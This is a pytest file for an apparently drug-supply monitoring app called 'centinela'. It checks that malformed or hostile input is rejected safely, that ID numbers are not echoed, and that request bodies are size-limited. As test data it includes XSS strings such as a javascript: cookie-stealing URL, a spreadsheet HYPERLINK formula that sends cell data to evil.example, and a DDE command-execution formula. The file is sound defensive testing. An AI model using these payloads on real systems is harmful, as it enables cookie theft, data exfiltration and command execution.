"""Hostile intake: values no parser foresaw reject one row, never the import; keys that look
like documents are never echoed (issue 11.5, 11.6)."""

from __future__ import annotations

import pytest
from sqlalchemy import select

from centinela.ingest import worker
from centinela.ingest.service import import_directory
from centinela.ledger.records import Movement, Rejection
from tests.ingest_support import movement, write_csv, write_jsonl, write_registry

T = "2025-03-01T10:00:00-05:00"
GOOD = movement("OK-1", "receipt", T, "EST-HOS", "10", counterparty_id="EST-DIS")

HOSTILE = [
    ({"occurred_at": "0001-01-01T00:00:00+05:00"}, "occurred_at", "out of range"),
    ({"occurred_at": "9999-12-31T23:30:00-05:00"}, "occurred_at", "out of range"),
    ({"occurred_at": "9999-12-31T23:30:00"}, "occurred_at", "out of range"),
    ({"quantity": "1e308"}, "quantity", "out of range"),
    ({"quantity": "2e9"}, "quantity", "out of range"),
    ({"quantity": "inf"}, "quantity", "finite"),
    ({"quantity": "-Infinity"}, "quantity", "finite"),
    ({"quantity": "١٢"}, "quantity", "not a number"),  # Arabic-Indic digits
    ({"quantity": "１２"}, "quantity", "not a number"),  # fullwidth digits
    ({"quantity": "1e99999"}, "quantity", "not a number"),
    ({"patient_birth_year": "１９８０"}, "patient_birth_year", "not a number"),
]


@pytest.fixture
def registry_dir(data_dir):
    write_registry(data_dir)
    return data_dir


@pytest.mark.parametrize("mode", ["in-process", "worker"])
@pytest.mark.parametrize("change,field,reason", HOSTILE, ids=[h[2] + ":" + next(iter(h[0].values()))
                                                                for h in HOSTILE])
def test_hostile_value_rejects_only_its_row_with_line_and_reason(engine, session, registry_dir,
                                                                 monkeypatch, mode, change, field,
                                                                 reason):
    if mode == "worker":
        monkeypatch.setattr(worker, "PARALLEL_MIN_ROWS", 0)
        monkeypatch.setattr(worker, "parallel_possible", lambda: True)
    write_csv(registry_dir, "movements", [GOOD | {"event_id": "OK-0"}, GOOD | change,
                                          GOOD | {"event_id": "OK-2"}])
    report = import_directory(engine, registry_dir)
    mv = report.files[-1]
    assert (mv.accepted, mv.rejected) == (2, 1)
    assert mv.status != "refused"
    sample = mv.samples[0]
    assert (sample.line, sample.field) == (3, field) and reason in sample.reason
    stored = session.scalars(select(Rejection)).one()
    assert (stored.line, stored.field) == (3, field)
    assert sorted(session.scalars(select(Movement.event_id))) == ["OK-0", "OK-2"]


def test_hostile_seizure_time_rejects_only_its_row(engine, session, registry_dir):
    good = {"seizure_id": "S1", "occurred_at": T, "ubigeo": "150101", "agency": "PNP",
            "substance": "fentanyl", "net_mass_mg": "12"}
    write_jsonl(registry_dir, "seizures", [good, good | {"seizure_id": "S2",
                                                         "occurred_at": "0001-01-01T00:00:00+05:00"},
                                           good | {"seizure_id": "S3", "net_mass_mg": "1e308"}])
    report = import_directory(engine, registry_dir)
    sz = report.files[-1]
    assert (sz.accepted, sz.rejected) == (1, 2)
    assert [(s.line, s.field) for s in sz.samples] == [(2, "occurred_at"), (3, "net_mass_mg")]


LEAKS = ("DNI:12345680", "dni 12345680", "12345680")


def _no_number(text: str) -> None:
    assert "12345680" not in text, text[:400]


@pytest.mark.parametrize("key", LEAKS)
def test_document_like_csv_column_is_never_stored_or_echoed(db_url, session, registry_dir, key):
    from typer.testing import CliRunner

    from centinela.cli import app
    from centinela.privacy import pseudonymize

    write_csv(registry_dir, "movements", [GOOD | {key: "x"}], fields=[*GOOD, key])
    result = CliRunner().invoke(app, ["import", str(registry_dir)])
    _no_number(result.output)
    rej = session.scalars(select(Rejection)).one()
    for text in (rej.field or "", rej.reason, repr(rej.record)):
        _no_number(text)
    assert rej.field == pseudonymize("DNI:12345680")  # still recognisable as the same leak


def test_document_like_json_key_is_never_stored_or_echoed(engine, session, registry_dir):
    write_jsonl(registry_dir, "movements", [GOOD | {"DNI:12345680": "1"}, GOOD | {"event_id": "J2"}])
    report = import_directory(engine, registry_dir)
    _no_number(report.as_text())
    mv = report.files[-1]
    assert (mv.accepted, mv.rejected) == (1, 1)
    rej = session.scalars(select(Rejection)).one()
    for text in (rej.field or "", rej.reason, repr(rej.record)):
        _no_number(text)


def test_document_like_key_is_not_echoed_by_the_api(engine):
    import datetime as dt

    from fastapi.testclient import TestClient

    from centinela.accounts.models import User
    from centinela.web.app import create_app

    app = create_app(engine)
    user = User(username="svc", role="institution", password_hash="x",
                created_at=dt.datetime(2025, 1, 1))
    app.state.user_resolver = lambda request, session: user
    client = TestClient(app, headers={"Authorization": "Bearer t"})
    r = client.post("/api/v1/movements", json={"records": [GOOD | {"DNI:12345680": "1"}]})
    assert r.status_code == 200
    _no_number(r.text)
    imp = r.json()["import_id"]
    for path in (f"/api/v1/imports/{imp}", f"/api/v1/imports/{imp}/rejections",
                 f"/api/v1/imports/{imp}/rejections.csv"):
        got = client.get(path)
        assert got.status_code == 200, path
        _no_number(got.text)


@pytest.mark.parametrize("bad", ["javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)",
                                 "java\tscript:alert(1)", " javascript:alert(1)",
                                 "data:text/html,<script>alert(1)</script>", "vbscript:x"])
def test_only_http_links_from_ingested_posts_are_rendered_as_links(engine, bad):
    import csv
    import io
    from pathlib import Path

    from fastapi.testclient import TestClient

    from centinela.accounts.models import User
    from centinela.web.app import create_app
    from centinela.web.deps import safe_url

    assert safe_url(bad) == ""
    assert safe_url("https://facebook.com/x") == "https://facebook.com/x"
    src = Path(__file__).parent / "fixtures" / "online" / "posts.csv"
    rows = list(csv.DictReader(src.open(encoding="utf-8")))
    out = io.StringIO()
    w = csv.DictWriter(out, fieldnames=list(rows[0]))
    w.writeheader()
    w.writerows([r | {"url": bad} for r in rows])
    app = create_app(engine)
    user = User(username="u", role="national_analyst", password_hash="x")
    app.state.user_resolver = lambda request, session: user
    client = TestClient(app)
    client.get("/healthz")
    client.headers["X-CSRF-Token"] = client.cookies.get("centinela_csrf")
    res = client.post("/api/online/ingest",
                      files={"file": ("posts.csv", out.getvalue().encode(), "text/csv")})
    assert res.status_code == 200, res.text
    leads = client.get("/api/online/leads").json()["leads"]
    assert leads
    for lead in leads:
        page = client.get(f"/online/leads/{lead['lead_id']}").text
        assert 'href="javascript' not in page.lower() and 'href="data:' not in page
        assert 'href="java' not in page.lower() and 'href="vbscript' not in page.lower()


def test_csv_downloads_neutralise_formulas(engine, session, registry_dir):
    import csv
    import datetime as dt
    import io

    from fastapi.testclient import TestClient

    from centinela.accounts.models import User
    from centinela.csvsafe import cell
    from centinela.web.app import create_app

    assert cell("=HYPERLINK(\"http://x\")") == "'=HYPERLINK(\"http://x\")"
    assert cell("-3") == "-3" and cell("-2+3") == "'-2+3" and cell(5) == 5
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    write_csv(registry_dir, "movements", [GOOD | {"event_id": "@SUM(1+1)", "lot": evil,
                                                  "quantity": "+cmd|' /C calc'!A0"}])
    run = import_directory(engine, registry_dir)
    app = create_app(engine)
    user = User(username="admin", role="admin", password_hash="x",
                created_at=dt.datetime(2025, 1, 1))
    app.state.user_resolver = lambda request, session: user
    client = TestClient(app, headers={"Authorization": "Bearer t"})
    for url in (f"/api/v1/imports/{run.import_id}/rejections.csv",
                f"/imports/{run.import_id}/rejects.csv"):
        r = client.get(url)
        assert r.status_code == 200, (url, r.status_code)
        for line in csv.reader(io.StringIO(r.text)):
            for value in line:
                assert not value.startswith(("=", "+", "@")), (url, value)


@pytest.mark.parametrize("path", [
    "/api/v1/imports/9223372036854775808/rejections.csv",
    "/api/v1/imports/9223372036854775808",
    "/api/v1/imports/1/rejections?offset=99999999999999999999",
    "/api/v1/imports/99999999999999999999999/rejections",
    "/api/v1/alerts?page=99999999999999999999",
    "/api/v1/ews/bulletins/99999999999999999999999",
    "/imports/99999999999999999999",
])
def test_oversized_ids_and_offsets_are_4xx_not_500(engine, path):
    import datetime as dt

    from fastapi.testclient import TestClient

    from centinela.accounts.models import User
    from centinela.web.app import create_app

    app = create_app(engine)
    user = User(username="admin", role="admin", password_hash="x",
                created_at=dt.datetime(2025, 1, 1))
    app.state.user_resolver = lambda request, session: user
    client = TestClient(app, raise_server_exceptions=False, headers={"Authorization": "Bearer t"})
    r = client.get(path)
    assert 400 <= r.status_code < 500, (path, r.status_code, r.text[:200])


@pytest.mark.parametrize("payload", [bytes(range(256)) * 160,  # 40 kB, one "line", commas rare
                                     b"\x00\x01" * 20000 + b"," + b"\xff" * 20000,
                                     b"MZ\x90\x00" + bytes(range(33, 127)) * 400])
def test_binary_file_gives_a_short_error(db_url, session, registry_dir, payload):
    from typer.testing import CliRunner

    from centinela.cli import app

    (registry_dir / "movements.csv").write_bytes(payload)
    result = CliRunner().invoke(app, ["import", str(registry_dir)])
    assert len(result.output) < 4000, len(result.output)
    for rej in session.scalars(select(Rejection)):
        assert len(rej.reason) <= 401 and len(rej.field or "") <= 60
        assert (rej.field or "").isprintable()


def test_a_20mb_body_is_refused_before_it_is_read(engine):
    import asyncio

    from fastapi.testclient import TestClient

    from centinela.web.app import create_app
    from centinela.web.limits import BodyLimit

    app = create_app(engine)
    client = TestClient(app)
    big = b'{"kind": "fentanyl_no_rx", "text": "' + b"x" * 20_000_000 + b'"}'
    r = client.post("/api/v1/reports", content=big, headers={"content-type": "application/json"})
    assert r.status_code == 413

    # At the ASGI level: not one byte of the declared 20 MB is pulled from the client.
    pulled = []

    async def receive():
        pulled.append(1)
        return {"type": "http.request", "body": b"x" * 65536, "more_body": True}

    sent = []

    async def send(message):
        sent.append(message)

    scope = {"type": "http", "method": "POST", "path": "/api/v1/reports",
             "headers": [(b"content-length", b"20000000")], "query_string": b""}
    asyncio.run(BodyLimit(app)(scope, receive, send))
    assert sent[0]["status"] == 413 and pulled == []
    # A chunked body (no Content-Length) is cut off at the limit while it streams.
    pulled.clear()
    sent.clear()
    asyncio.run(BodyLimit(app)({**scope, "headers": []}, receive, send))
    assert sent[0]["status"] == 413 and len(pulled) * 65536 <= 8_000_000 + 2 * 65536
